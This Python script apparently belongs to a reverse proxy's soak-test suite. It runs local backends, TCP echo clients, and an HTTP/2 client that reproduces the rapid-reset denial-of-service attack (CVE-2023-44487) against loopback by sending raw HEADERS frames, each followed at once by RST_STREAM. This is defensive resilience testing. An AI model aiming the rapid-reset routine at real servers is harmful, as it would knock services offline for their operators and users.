#!/usr/bin/env python3
"""Processes bench/soak.sh runs beside tandemd, standard library only, loopback only.

  soak_clients.py backend PORT NAME        an HTTP/1.1 keep-alive backend: GET /healthz
                                           answers "ok", any other path "NAME"
  soak_clients.py tcp-echo PORT            a TCP echo server (the L4 pool's backend)
  soak_clients.py rapid-reset PORT SECS    an HTTP/2 client that opens streams and cancels
                                           them at once (CVE-2023-44487), batch after batch,
                                           reconnecting when the proxy closes the connection
  soak_clients.py tcp PORT SECS            TCP clients: connect, send 1 KiB, read it back,
                                           close, in a loop
Each client prints one summary line when its time is up.
"""

import http.server
import socket
import socketserver
import struct
import sys
import threading
import time


def backend(port, name):
    body_for = {b"/healthz": b"ok\n"}

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):
            body = body_for.get(self.path.encode(), name.encode() + b"\n")
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    http.server.ThreadingHTTPServer.allow_reuse_address = True
    http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()


def tcp_echo(port):
    class Echo(socketserver.BaseRequestHandler):
        def handle(self):
            while True:
                data = self.request.recv(65536)
                if not data:
                    return
                self.request.sendall(data)

    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer.daemon_threads = True
    socketserver.ThreadingTCPServer(("127.0.0.1", port), Echo).serve_forever()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# HPACK, static table only: :method GET (2), :scheme http (6), :path / (4), then
# :authority (name index 1) as a literal without indexing.
AUTHORITY = b"soak.example"
HEADERS_BLOCK = bytes([0x82, 0x86, 0x84, 0x01, len(AUTHORITY)]) + AUTHORITY


def rapid_reset(port, seconds):
    deadline = time.monotonic() + seconds
    streams = connections = closed_by_proxy = 0
    while time.monotonic() < deadline:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            time.sleep(0.2)
            continue
        connections += 1
        s.settimeout(0.05)
        try:
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))
            stream = 1
            while time.monotonic() < deadline and stream < 2**31 - 200:
                batch = b""
                for _ in range(100):
                    # HEADERS (END_STREAM | END_HEADERS), then RST_STREAM CANCEL.
                    batch += frame(0x1, 0x5, stream, HEADERS_BLOCK)
                    batch += frame(0x3, 0, stream, struct.pack(">I", 0x8))
                    stream += 2
                s.sendall(batch)
                streams += 100
                try:
                    while True:
                        if not s.recv(65536):
                            raise ConnectionError("closed")
                except socket.timeout:
                    pass
        except (OSError, ConnectionError):
            closed_by_proxy += 1
        finally:
            s.close()
    print(f"rapid-reset: {streams} streams opened and cancelled on {connections} connections, "
          f"{closed_by_proxy} closed by the proxy")


def tcp_clients(port, seconds):
    deadline = time.monotonic() + seconds
    ok = failed = 0
    payload = b"x" * 1024
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
                s.sendall(payload)
                got = b""
                while len(got) < len(payload):
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    got += chunk
                if got == payload:
                    ok += 1
                else:
                    failed += 1
        except OSError:
            failed += 1
            time.sleep(0.05)
    print(f"tcp: {ok} echoes, {failed} failed")


def main(argv):
    if len(argv) < 3:
        sys.exit(__doc__)
    what, port = argv[1], int(argv[2])
    if what == "backend":
        backend(port, argv[3])
    elif what == "tcp-echo":
        tcp_echo(port)
    elif what == "rapid-reset":
        rapid_reset(port, float(argv[3]))
    elif what == "tcp":
        # Two clients in parallel: one connection at a time each.
        threads = [threading.Thread(target=tcp_clients, args=(port, float(argv[3]))) for _ in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
